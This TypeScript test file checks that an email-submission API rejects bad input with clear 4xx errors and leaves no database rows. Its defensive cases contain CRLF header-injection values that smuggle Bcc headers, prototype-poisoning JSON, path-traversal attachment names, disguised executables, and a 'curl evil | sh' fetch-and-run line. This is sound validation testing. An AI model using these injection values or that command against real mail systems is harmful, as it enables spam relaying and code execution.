import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, pdfLike, submission, type TestApp } from '../support/app.ts';

/**
 * Every kind of bad submission gets a clear 4xx with `{ code, message, details }`
 * and leaves no trace in the database.
 */
interface Case {
  name: string;
  /** A role of the tenant (which may send from example.com only), a literal header value, or null for none. */
  auth?: 'submitter' | 'auditor' | (string & {}) | null;
  /** JSON body; defaults to `submission()`. */
  body?: Record<string, unknown>;
  payload?: string | Buffer;
  headers?: Record<string, string>;
  status: number;
  code: string;
}

const innocent = (content: Buffer, filename = 'invoice.pdf') =>
  submission({ attachments: [{ filename, contentType: 'application/pdf', content: content.toString('base64') }] });
const withBytes = (...prefix: number[]) => Buffer.concat([Buffer.from(prefix), pdfLike(512)]);
const named = (filename: string) => innocent(pdfLike(512), filename);
const { from: _from, ...withoutFrom } = submission();
const { to: _to, ...withoutTo } = submission();
const { subject: _subject, ...withoutSubject } = submission();
const { text: _text, ...withoutBody } = submission();
const wellFormedUnknownKey = `Bearer sp_0123456789abcdef.${'x'.repeat(43)}`;

const boundary = 'sealpost-bad-input';
const part = (name: string, value: string) => `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
const multipartHeaders = { 'content-type': `multipart/form-data; boundary=${boundary}` };
const multipartFields = part('from', 'payroll@example.com') + part('to', 'anna@example.org') + part('subject', 'Payslip') + part('text', 'Hi');

const cases: Case[] = [
  // The request itself
  { name: 'malformed JSON', payload: '{"from": "payroll@example.com", ', headers: { 'content-type': 'application/json' }, status: 400, code: 'malformed_json' },
  { name: 'JSON that is not an object', payload: '["payroll@example.com"]', headers: { 'content-type': 'application/json' }, status: 422, code: 'invalid_field' },
  { name: 'empty JSON body', payload: '', headers: { 'content-type': 'application/json' }, status: 400, code: 'malformed_json' },
  { name: 'no body at all', payload: '', status: 422, code: 'missing_field' },
  { name: 'text/plain', payload: 'from: payroll@example.com', headers: { 'content-type': 'text/plain' }, status: 415, code: 'unsupported_media_type' },
  { name: 'application/xml', payload: '<message/>', headers: { 'content-type': 'application/xml' }, status: 415, code: 'unsupported_media_type' },
  // Prototype poisoning: the JSON parser does not scan for it; the schema refuses the keys.
  ...(
    [
      ['__proto__ at the top', (b: string) => b.replace('{', '{"__proto__":{"isAdmin":true},'), 'unknown_field'],
      ['constructor.prototype at the top', (b: string) => b.replace('{', '{"constructor":{"prototype":{"isAdmin":true}},'), 'unknown_field'],
      // A recipient is a string or { address, name }: the object matches neither.
      ['__proto__ in a recipient', (b: string) => b.replace('"to":["anna.muster@example.org"]', '"to":[{"address":"anna@example.org","__proto__":{"x":1}}]'), 'invalid_field'],
      ['__proto__ in an attachment', (b: string) => b.replace('"filename"', '"__proto__":{"x":1},"filename"'), 'unknown_field'],
    ] as const
  ).map(([name, poison, code]) => ({
    name,
    payload: poison(JSON.stringify(submission())),
    headers: { 'content-type': 'application/json' },
    status: 422,
    code,
  })),
  // Fields
  { name: 'missing from', body: withoutFrom, status: 422, code: 'missing_field' },
  { name: 'missing to', body: withoutTo, status: 422, code: 'missing_field' },
  { name: 'empty to', body: submission({ to: [] }), status: 422, code: 'invalid_field' },
  { name: 'only cc', body: submission({ to: undefined, cc: ['hr@example.org'] }), status: 422, code: 'missing_field' },
  { name: 'missing subject', body: withoutSubject, status: 422, code: 'missing_field' },
  { name: 'missing body (text and html)', body: withoutBody, status: 422, code: 'missing_field' },
  { name: 'unknown top-level field', body: submission({ bcc: ['eve@example.net'] }), status: 422, code: 'unknown_field' },
  { name: 'unknown attachment field', body: submission({ attachments: [{ filename: 'a.pdf', content: 'AAAA', path: '/etc/passwd' }] }), status: 422, code: 'unknown_field' },
  { name: 'to as a single string', body: submission({ to: 'anna@example.org' }), status: 422, code: 'invalid_field' },
  { name: 'subject of the wrong type', body: submission({ subject: 42 }), status: 422, code: 'invalid_field' },
  { name: 'unknown mode', body: submission({ mode: 'urgent' }), status: 422, code: 'invalid_mode' },
  { name: 'unknown language', body: submission({ language: 'xx' }), status: 422, code: 'invalid_field' },
  // Addresses
  { name: 'from without @', body: submission({ from: 'payroll.example.com' }), status: 422, code: 'invalid_address' },
  { name: 'from with a display name', body: submission({ from: 'Payroll <payroll@example.com>' }), status: 422, code: 'invalid_address' },
  { name: 'recipient with two @', body: submission({ to: ['anna@b@example.org'] }), status: 422, code: 'invalid_address' },
  { name: 'recipient with a space', body: submission({ to: ['anna muster@example.org'] }), status: 422, code: 'invalid_address' },
  { name: 'recipient without a dot in the domain', body: submission({ to: ['anna@localhost'] }), status: 422, code: 'invalid_address' },
  { name: 'recipient with an empty label', body: submission({ to: ['anna@example..org'] }), status: 422, code: 'invalid_address' },
  { name: 'recipient with CRLF', body: submission({ to: ['anna@example.org\r\nBcc: eve@example.net'] }), status: 422, code: 'invalid_address' },
  { name: 'cc that is not an address', body: submission({ cc: ['hr'] }), status: 422, code: 'invalid_address' },
  { name: 'recipient object with a bad address', body: submission({ to: [{ address: 'anna@', name: 'Anna' }] }), status: 422, code: 'invalid_address' },
  // Header injection
  { name: 'CR/LF in subject', body: submission({ subject: 'Payslip\r\nBcc: eve@example.net' }), status: 422, code: 'invalid_header_value' },
  { name: 'bare LF in subject', body: submission({ subject: 'Payslip\nBcc: eve@example.net' }), status: 422, code: 'invalid_header_value' },
  { name: 'CR/LF in fromName', body: submission({ fromName: 'Payroll\r\nBcc: eve@example.net' }), status: 422, code: 'invalid_header_value' },
  { name: 'CR/LF in recipient name', body: submission({ to: [{ address: 'anna@example.org', name: 'Anna\r\nBcc: eve@example.net' }] }), status: 422, code: 'invalid_header_value' },
  { name: 'CR/LF in reference', body: submission({ reference: 'PAY-1\r\nX-Evil: yes' }), status: 422, code: 'invalid_header_value' },
  // Attachments
  { name: 'invalid base64', body: submission({ attachments: [{ filename: 'a.pdf', content: 'not base64!' }] }), status: 422, code: 'invalid_base64' },
  { name: 'base64 of the wrong length', body: submission({ attachments: [{ filename: 'a.pdf', content: 'AAAAA' }] }), status: 422, code: 'invalid_base64' },
  { name: 'attachment name with /', body: named('../../etc/passwd.pdf'), status: 422, code: 'invalid_attachment_name' },
  { name: 'attachment name with \\', body: named('..\\windows\\payslip.pdf'), status: 422, code: 'invalid_attachment_name' },
  { name: 'attachment name with a control character', body: named('pay\u0007slip.pdf'), status: 422, code: 'invalid_attachment_name' },
  { name: 'attachment name with CR/LF', body: named('payslip.pdf\r\nContent-Type: text/html'), status: 422, code: 'invalid_attachment_name' },
  { name: 'attachment named ..', body: named('..'), status: 422, code: 'invalid_attachment_name' },
  { name: 'attachment without a name', body: submission({ attachments: [{ filename: '', content: 'AAAA' }] }), status: 422, code: 'missing_field' },
  ...['exe', 'bat', 'cmd', 'com', 'scr', 'js', 'vbs', 'msi', 'jar'].map((ext) => ({
    name: `.${ext} attachment`,
    body: named(`payslip.${ext}`),
    status: 422,
    code: 'attachment_blocked',
  })),
  { name: 'upper-case .EXE', body: named('SETUP.EXE'), status: 422, code: 'attachment_blocked' },
  { name: 'double extension .pdf.exe', body: named('payslip.pdf.exe'), status: 422, code: 'attachment_blocked' },
  { name: 'trailing dot .exe.', body: named('payslip.exe.'), status: 422, code: 'attachment_blocked' },
  { name: 'executable content type', body: submission({ attachments: [{ filename: 'a.pdf', contentType: 'application/x-msdownload', content: 'AAAA' }] }), status: 422, code: 'attachment_blocked' },
  { name: 'MZ bytes as invoice.pdf', body: innocent(withBytes(0x4d, 0x5a)), status: 422, code: 'attachment_blocked' },
  { name: 'ELF bytes as invoice.pdf', body: innocent(withBytes(0x7f, 0x45, 0x4c, 0x46)), status: 422, code: 'attachment_blocked' },
  { name: 'Mach-O bytes as invoice.pdf', body: innocent(withBytes(0xcf, 0xfa, 0xed, 0xfe)), status: 422, code: 'attachment_blocked' },
  { name: '#! script as invoice.pdf', body: innocent(Buffer.from('#!/bin/sh\ncurl evil | sh\n')), status: 422, code: 'attachment_blocked' },
  // Limits (MAX_MESSAGE_BYTES is 100000 here)
  { name: 'text body over the message limit', body: submission({ text: 'x'.repeat(100_001) }), status: 413, code: 'message_too_large' },
  { name: 'attachment over the message limit', body: innocent(pdfLike(100_001)), status: 413, code: 'message_too_large' },
  { name: 'request over the HTTP body limit', body: submission({ text: 'x'.repeat(1_500_000) }), status: 413, code: 'message_too_large' },
  { name: 'too many recipients', body: submission({ to: Array.from({ length: 101 }, (_, i) => `r${i}@example.org`) }), status: 422, code: 'too_many_recipients' },
  { name: 'duplicate recipient', body: submission({ to: ['anna@example.org'], cc: ['Anna@EXAMPLE.org'] }), status: 422, code: 'duplicate_recipient' },
  // Who is asking
  { name: 'sender domain not allowed', body: submission({ from: 'payroll@example.net' }), status: 403, code: 'sender_not_allowed' },
  { name: 'sender subdomain not allowed', body: submission({ from: 'payroll@mail.example.com' }), status: 403, code: 'sender_not_allowed' },
  { name: 'no Authorization header', auth: null, status: 401, code: 'unauthorized' },
  { name: 'unknown key', auth: wellFormedUnknownKey, status: 401, code: 'unauthorized' },
  { name: 'Basic instead of Bearer', auth: 'Basic cGF5cm9sbDpzZWNyZXQ=', status: 401, code: 'unauthorized' },
  { name: 'Bearer without a token', auth: 'Bearer', status: 401, code: 'unauthorized' },
  { name: 'Bearer with a malformed token', auth: 'Bearer not-a-sealpost-key', status: 401, code: 'unauthorized' },
  { name: 'Bearer with two tokens', auth: `${wellFormedUnknownKey} ${wellFormedUnknownKey}`, status: 401, code: 'unauthorized' },
  { name: 'unauthenticated malformed JSON', auth: null, payload: '{', headers: { 'content-type': 'application/json' }, status: 401, code: 'unauthorized' },
  { name: 'auditor submitting', auth: 'auditor', status: 403, code: 'forbidden' },
  // Idempotency-Key
  { name: 'Idempotency-Key with a space', headers: { 'idempotency-key': 'pay slip 42' }, status: 422, code: 'invalid_header_value' },
  { name: 'empty Idempotency-Key', headers: { 'idempotency-key': '' }, status: 422, code: 'invalid_header_value' },
  { name: 'Idempotency-Key over 255 characters', headers: { 'idempotency-key': 'k'.repeat(256) }, status: 422, code: 'invalid_header_value' },
  // multipart/form-data
  { name: 'truncated multipart body', payload: multipartFields + `--${boundary}\r\nContent-Disposition: form-data; name="text"\r\n\r\nHi`, headers: multipartHeaders, status: 400, code: 'malformed_multipart' },
  { name: 'multipart without a boundary', payload: multipartFields, headers: { 'content-type': 'multipart/form-data' }, status: 400, code: 'malformed_multipart' },
  { name: 'unknown multipart field', payload: `${multipartFields}${part('bcc', 'eve@example.net')}--${boundary}--\r\n`, headers: multipartHeaders, status: 422, code: 'unknown_field' },
  { name: 'unknown multipart file field', payload: `${multipartFields}--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.7\r\n--${boundary}--\r\n`, headers: multipartHeaders, status: 422, code: 'unknown_field' },
  { name: 'multipart field sent twice', payload: `${multipartFields}${part('subject', 'Again')}--${boundary}--\r\n`, headers: multipartHeaders, status: 422, code: 'invalid_field' },
  { name: 'multipart executable', payload: `${multipartFields}--${boundary}\r\nContent-Disposition: form-data; name="attachments"; filename="invoice.pdf"\r\nContent-Type: application/pdf\r\n\r\nMZ\x90\x00\r\n--${boundary}--\r\n`, headers: multipartHeaders, status: 422, code: 'attachment_blocked' },
  { name: 'multipart CR/LF in a header field', payload: `${part('from', 'payroll@example.com')}${part('to', 'anna@example.org')}${part('subject', 'Pay\r\nBcc: eve@example.net')}${part('text', 'Hi')}--${boundary}--\r\n`, headers: multipartHeaders, status: 422, code: 'invalid_header_value' },
];

describe('POST /v1/messages refuses bad input cleanly', () => {
  let t: TestApp;
  const keys: Record<string, string> = {};

  beforeAll(async () => {
    t = await createTestApp({ env: { MAX_MESSAGE_BYTES: '100000' } });
    const tenant = await t.tenant({ senderDomains: ['example.com'] });
    keys.submitter = tenant.auth;
    keys.auditor = await t.key(tenant.tenantId, 'auditor');
  });
  afterAll(async () => {
    await t?.close();
  });

  async function rowCounts() {
    const { rows } = await t.runtime.database.pool.query<Record<string, number>>(
      `SELECT (SELECT count(*) FROM messages)::int AS messages, (SELECT count(*) FROM recipients)::int AS recipients,
              (SELECT count(*) FROM attachments)::int AS attachments, (SELECT count(*) FROM outbox WHERE kind = 'deliver')::int AS outbox,
              (SELECT count(*) FROM events)::int AS events`,
    );
    return rows[0]!;
  }

  it.each(cases)('$name: $status $code', async (c) => {
    const authorization = c.auth === null ? undefined : (keys[c.auth ?? 'submitter'] ?? c.auth);
    const res = await t.app.inject({
      method: 'POST',
      url: '/v1/messages',
      headers: { ...(authorization !== undefined && { authorization }), ...c.headers },
      payload: c.payload ?? c.body ?? submission(),
    });
    expect(res.statusCode, res.body).toBe(c.status);
    expect(res.headers['content-type']).toMatch(/^application\/json/);
    const body = res.json();
    expect(body).toMatchObject({ code: c.code, message: expect.any(String), details: expect.any(Object) });
    expect(body.message.length).toBeGreaterThan(0);
    expect(await rowCounts()).toEqual({ messages: 0, recipients: 0, attachments: 0, outbox: 0, events: 0 });
  });

  // The control: the same requests without the fault are accepted, so each case fails for its own reason.
  it('accepts the valid submission the cases are made from, as JSON and as multipart', async () => {
    const json = await t.app.inject({ method: 'POST', url: '/v1/messages', headers: { authorization: keys.submitter! }, payload: submission() });
    expect(json.statusCode, json.body).toBe(202);
    const multipart = await t.app.inject({
      method: 'POST',
      url: '/v1/messages',
      headers: { authorization: keys.submitter!, ...multipartHeaders },
      payload: `${multipartFields}--${boundary}--\r\n`,
    });
    expect(multipart.statusCode, multipart.body).toBe(202);
    expect(await rowCounts()).toEqual({ messages: 2, recipients: 2, attachments: 1, outbox: 2, events: 2 });
  });
});
